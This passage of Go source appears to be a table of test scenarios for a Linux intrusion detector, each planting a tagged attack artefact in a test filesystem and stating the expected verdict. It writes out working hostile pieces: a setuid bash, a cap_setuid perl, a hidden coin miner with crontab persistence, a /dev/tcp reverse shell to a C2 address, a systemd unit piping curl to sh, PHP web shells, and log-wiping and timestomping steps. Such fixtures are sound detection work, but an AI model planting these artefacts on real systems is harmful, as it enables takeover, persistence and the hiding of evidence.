			Description: "a setuid-root copy of /bin/bash hidden as /var/tmp/.bash (bash -p gives root)",
			Apply: func(e *Env) error {
				r := e.Root
				if err := r.CopyFile("/bin/bash", "/var/tmp/.bash", 0o755); err != nil {
					return err
				}
				if err := r.Chown("/var/tmp/.bash", "root", "root"); err != nil {
					return err
				}
				return r.Chmod("/var/tmp/.bash", 0o755|os.ModeSetuid)
			},
			Expect:  Expect{Verdict: VerdictCompromised, Paths: []string{"/var/tmp/.bash"}},
			Changes: []Want{{Path: "/var/tmp/.bash", Mode: 0o4755}},
		},
		{
			Name: "priv-cap-setuid-perl", Category: CatPrivilege, Kind: Attack, Techniques: []string{"T1548.001"},
			Description: "a copy of perl at /usr/local/bin/perl5 with the file capability cap_setuid=ep (perl -e 'setuid(0)...' gives root)",
			Apply: func(e *Env) error {
				r := e.Root
				if err := r.CopyFile("/usr/bin/perl", "/usr/local/bin/perl5", 0o755); err != nil {
					return err
				}
				return r.SetXattr("/usr/local/bin/perl5", "security.capability", capSetuidEP())
			},
			Expect:  Expect{Verdict: VerdictCompromised, Paths: []string{"/usr/local/bin/perl5"}},
			Changes: []Want{{Path: "/usr/local/bin/perl5", Xattr: "security.capability"}},
		},

		// ---------------------------------------------------------------- implants
		{
			Name: "implant-devshm-elf", Category: CatImplants, Kind: Attack, Techniques: []string{"T1105", "T1036.005"},
			Description: "an ELF program in /dev/shm (a copied system program, renamed and tagged)",
			Apply: func(e *Env) error {
				return dropImplant(e.Root, "/dev/shm/dbus-session", "devshm")
			},
			Expect:  Expect{Verdict: VerdictCompromised, Paths: []string{"/dev/shm/dbus-session"}},
			Changes: []Want{{Path: "/dev/shm/dbus-session", Mode: 0o755}},
		},
		{
			Name: "implant-hidden-dir", Category: CatImplants, Kind: Attack, Techniques: []string{"T1564.001"},
			Description: "a hidden folder /usr/lib/.x with an ELF program in it",
			Apply: func(e *Env) error {
				return dropImplant(e.Root, "/usr/lib/.x/sync", "hidden")
			},
			Expect:  Expect{Verdict: VerdictCompromised, Paths: []string{"/usr/lib/.x/"}},
			Changes: []Want{{Path: "/usr/lib/.x/sync", Mode: 0o755}},
		},
		{
			Name: "implant-kthread-name", Category: CatImplants, Kind: Attack, Techniques: []string{"T1036.004"},
			Description: "a program named like a kernel thread, /tmp/kthreadd",
			Apply: func(e *Env) error {
				return dropImplant(e.Root, "/tmp/kthreadd", "kthreadd")
			},
			Expect:  Expect{Verdict: VerdictCompromised, Paths: []string{"/tmp/kthreadd"}},
			Changes: []Want{{Path: "/tmp/kthreadd", Mode: 0o755}},
		},
		{
			Name: "implant-miner", Category: CatImplants, Kind: Attack, Techniques: []string{"T1496"},
			Description: "a coin miner: /var/tmp/.xm/xmrig with a config.json (stratum+tcp pool, donate-level) and an @reboot line in root's crontab",
			Apply: func(e *Env) error {
				r := e.Root
				data, err := implant(r, "XMRig 6.21.0 built on Nov 20 2026 with GCC")
				if err != nil {
					return err
				}
				if err := r.WriteFile("/var/tmp/.xm/xmrig", data, 0o755); err != nil {
					return err
				}
				cfg := `{
    "autosave": true,
    "background": true,
    "donate-level": 0,
    "cpu": {"enabled": true, "huge-pages": true, "max-threads-hint": 75},
    "opencl": false,
    "cuda": false,
    "pools": [
        {
            "url": "stratum+tcp://pool.example.net:3333",
            "user": "48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD",
            "pass": "web1",
            "keepalive": true,
            "tls": false
        }
    ]
}
`
				if err := r.WriteFile("/var/tmp/.xm/config.json", []byte(cfg), 0o644); err != nil {
					return err
				}
				return userCrontab(e, "root", "@reboot cd /var/tmp/.xm && ./xmrig -c config.json >/dev/null 2>&1\n")
			},
			Expect: Expect{Verdict: VerdictCompromised, Paths: []string{"/var/tmp/.xm/", "/var/spool/cron/crontabs/root"}},
			Changes: []Want{{Path: "/var/tmp/.xm/config.json", Contains: "stratum+tcp://"},
				{Path: "/var/spool/cron/crontabs/root", Contains: "xmrig"}},
		},
		{
			Name: "implant-reverse-shell-cron", Category: CatImplants, Kind: Attack, Techniques: []string{"T1053.003", "T1059.004"},
			Description: "an hourly cron script opening an interactive bash to " + c2Addr + ":4444 through /dev/tcp",
			Apply: func(e *Env) error {
				return writeScript(e.Root, "/etc/cron.hourly/0sync-time", "/bin/bash -c 'bash -i >& /dev/tcp/"+c2Addr+"/4444 0>&1' >/dev/null 2>&1 &\n")
			},
			Expect:  Expect{Verdict: VerdictCompromised, Paths: []string{"/etc/cron.hourly/0sync-time"}},
			Changes: []Want{{Path: "/etc/cron.hourly/0sync-time", Contains: "/dev/tcp/" + c2Addr}},
		},
		{
			Name: "implant-download-run-systemd", Category: CatImplants, Kind: Attack, Techniques: []string{"T1543.002", "T1105", "T1059.004"},
			Description: "an enabled system service whose ExecStart downloads a script with curl and pipes it to sh",
			Apply: func(e *Env) error {
				r := e.Root
				unit := "[Unit]\nDescription=Network connectivity check\nAfter=network-online.target\n\n[Service]\nType=oneshot\nExecStart=/bin/sh -c 'curl -fsSL http://" + c2Addr + "/n.sh | sh'\n\n[Install]\nWantedBy=multi-user.target\n"
				if err := r.WriteFile("/etc/systemd/system/network-check.service", []byte(unit), 0o644); err != nil {
					return err
				}
				return r.Symlink("/etc/systemd/system/network-check.service", "/etc/systemd/system/multi-user.target.wants/network-check.service")
			},
			Expect:  Expect{Verdict: VerdictCompromised, Paths: []string{"/etc/systemd/system/network-check.service", "/etc/systemd/system/multi-user.target.wants/network-check.service"}},
			Changes: []Want{{Path: "/etc/systemd/system/network-check.service", Contains: "| sh'"}},
		},
		{
			Name: "implant-webshell-php", Category: CatImplants, Kind: Attack, Techniques: []string{"T1505.003"},
			Description: "a one-line PHP web shell /var/www/html/inc/cache.php (owned by www-data) running ?cmd= with passthru, and the requests to it in nginx's access log",
			Apply: func(e *Env) error {
				r := e.Root
				p := "/var/www/html/inc/cache.php"
				if err := r.WriteFile(p, []byte("<?php if(isset($_REQUEST['cmd'])){echo '<pre>';passthru($_REQUEST['cmd']);echo '</pre>';} ?>\n"), 0o644); err != nil {
					return err
				}
				if err := r.Chown(p, "www-data", "www-data"); err != nil {
					return err
				}
				t := e.now().UTC()
				var log strings.Builder
				for i, q := range []string{"id", "uname%20-a", "cat%20/etc/passwd"} {
					fmt.Fprintf(&log, "%s - - [%s] \"GET /inc/cache.php?cmd=%s HTTP/1.1\" 200 %d \"-\" \"python-requests/2.31.0\"\n", c2Addr, t.Add(time.Duration(i)*time.Second).Format("02/Jan/2006:15:04:05 -0700"), q, 60+i*40)
				}
				return r.AppendFile("/var/log/nginx/access.log", []byte(log.String()))
			},
			Expect:  Expect{Verdict: VerdictCompromised, Paths: []string{"/var/www/html/inc/cache.php"}},
			Changes: []Want{{Path: "/var/www/html/inc/cache.php", Contains: "passthru($_REQUEST['cmd'])", Owner: "www-data"}},
		},
		{
			Name: "implant-webshell-obfuscated", Category: CatImplants, Kind: Attack, Techniques: []string{"T1505.003", "T1027"},
			Description: "an obfuscated PHP web shell in /var/www/html/assets/thumb.php: rot13 and reversed names for base64_decode and gzinflate, eval of the result",
			Apply: func(e *Env) error {
				r := e.Root
				p := "/var/www/html/assets/thumb.php"
				if err := r.WriteFile(p, []byte(obfuscatedShell()), 0o644); err != nil {
					return err
				}
				return r.Chown(p, "www-data", "www-data")
			},
			Expect:  Expect{Verdict: VerdictCompromised, Paths: []string{"/var/www/html/assets/thumb.php"}},
			Changes: []Want{{Path: "/var/www/html/assets/thumb.php", Contains: "@eval($b($a($c)))"}},
		},

		// ---------------------------------------------------------------- tampering
		{
			Name: "tamper-authlog-truncated", Category: CatTampering, Kind: Attack, Techniques: []string{"T1070.002", "T1685.006"},
			Description: "/var/log/auth.log emptied in place (: > auth.log); no rotation explains it",
			Apply: func(e *Env) error {
				r := e.Root
				fi, err := r.Lstat("/var/log/auth.log")
				if err != nil {
					return err
				}
				if fi.Size() == 0 {
					return errors.New("/var/log/auth.log is already empty: nothing to truncate")
				}
				return r.Truncate("/var/log/auth.log")
			},
			Expect:  Expect{Verdict: VerdictSuspicious, Paths: []string{"/var/log/auth.log"}},
			Changes: []Want{{Path: "/var/log/auth.log", Empty: true}},
		},
		{
			Name: "tamper-history-devnull", Category: CatTampering, Kind: Attack, Techniques: []string{"T1070.003"},
			Description: "root's ~/.bash_history replaced by a symbolic link to /dev/null",
			Apply: func(e *Env) error {
				return e.Root.Symlink("/dev/null", "/root/.bash_history")
			},
			Expect:  Expect{Verdict: VerdictSuspicious, Paths: []string{"/root/.bash_history"}},
			Changes: []Want{{Path: "/root/.bash_history", Link: "/dev/null"}},
		},
		{
			Name: "tamper-histfile-profile", Category: CatTampering, Kind: Attack, Techniques: []string{"T1070.003", "T1562.003"},
			Description: "export HISTFILE=/dev/null appended to /etc/profile: no shell of anyone keeps a history",
			Apply: func(e *Env) error {
				return e.Root.AppendLine("/etc/profile", "export HISTFILE=/dev/null")
			},
			Expect:  Expect{Verdict: VerdictSuspicious, Paths: []string{"/etc/profile"}},
			Changes: []Want{{Path: "/etc/profile", Contains: "HISTFILE=/dev/null"}},
		},
		{
			Name: "tamper-timestomp", Category: CatTampering, Kind: Attack, Techniques: []string{"T1070.006"},
			Description: "a new program /usr/local/sbin/ifup-helper whose modification time is set back to 2019-01-01 (touch -d), before the system was installed",
			Apply: func(e *Env) error {
				r := e.Root
				p := "/usr/local/sbin/ifup-helper"
				if err := dropImplant(r, p, "ifup-helper"); err != nil {
					return err
				}
				return r.Touch(p, time.Date(2019, 1, 1, 0, 0, 0, 0, time.UTC))
			},
			Expect:  Expect{Verdict: VerdictSuspicious, Paths: []string{"/usr/local/sbin/ifup-helper"}},
			Changes: []Want{{Path: "/usr/local/sbin/ifup-helper", Before: time.Date(2019, 1, 2, 0, 0, 0, 0, time.UTC)}},
		},
	}
}
